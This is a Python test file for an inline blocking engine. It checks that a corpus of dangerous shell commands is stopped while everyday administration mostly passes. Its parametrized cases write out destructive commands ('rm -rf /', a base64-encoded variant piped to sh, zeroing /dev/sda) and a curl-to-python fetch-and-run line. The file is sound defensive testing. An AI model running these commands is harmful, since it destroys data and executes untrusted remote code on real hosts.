"""Inline blocking that does not evade: a corpus of dangerous variants and of everyday administration.

Every dangerous command (wrapped, encoded, split, hidden in substitutions, here-documents, loops,
variables, interpreters) must be blocked or sent for approval; at most 2 % of everyday commands
may be stopped. Both lists are data in tests/soc/corpus/, so a new evasion is one line there.
"""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from control_plane.soc.inline import InlineEngine, OperationEvent
from control_plane.soc.rules import load_rules

CORPUS = Path(__file__).parent / "corpus"
DANGEROUS: list[str] = yaml.safe_load((CORPUS / "dangerous.yaml").read_text(encoding="utf-8"))
EVERYDAY = [ln for ln in (CORPUS / "everyday.txt").read_text(encoding="utf-8").splitlines() if ln.strip() and not ln.startswith("#")]
ENGINE = InlineEngine.from_rules(load_rules())


def decide(text: str) -> str:
    """The inline decision for a command typed on a pool host."""
    return ENGINE.evaluate(OperationEvent("host.exec", "prim-app-1", {"command": text}, "alice", ("ops_engineer",), "10.77.0.1")).action


def test_corpus_sizes() -> None:
    """The corpus is as large as the issue asks: at least 200 dangerous variants and 200 everyday commands."""
    assert len(DANGEROUS) >= 200 and len(set(DANGEROUS)) == len(DANGEROUS)
    assert len(EVERYDAY) >= 200 and len(set(EVERYDAY)) == len(EVERYDAY)


def test_every_dangerous_variant_is_stopped() -> None:
    """None of the dangerous variants is allowed; the failure lists every one that got through."""
    allowed = [c for c in DANGEROUS if decide(c) == "allow"]
    assert not allowed, f"{len(allowed)} of {len(DANGEROUS)} dangerous commands allowed:\n" + "\n".join(allowed)


def test_everyday_commands_mostly_pass() -> None:
    """At most 2 % of everyday administration is stopped (blocked or sent for approval)."""
    stopped = [(c, decide(c)) for c in EVERYDAY if decide(c) != "allow"]
    assert len(stopped) <= 0.02 * len(EVERYDAY), f"{len(stopped)} of {len(EVERYDAY)} everyday commands stopped: {stopped}"


@pytest.mark.parametrize("text", ["rm -rf /", "X=rm; $X -rf /", "echo cm0gLXJmIC8= | base64 -d | sh", "cat /dev/zero > /dev/sda"])
def test_the_real_command_is_what_is_judged(text: str) -> None:
    """Wrapped, assigned or encoded, the destructive command itself is what the rules see, and it is blocked."""
    assert decide(text) == "block"


@pytest.mark.parametrize("text", ["$CMD /etc/passwd", "curl -s http://203.0.113.9/p | python3", "bash /tmp/x.sh", "python3 -c 'import os'"])
def test_what_only_the_run_shows_needs_an_approver(text: str) -> None:
    """A command name or script body known only at run time, or network content into an interpreter: require_approval."""
    assert decide(text) in ("require_approval", "block")
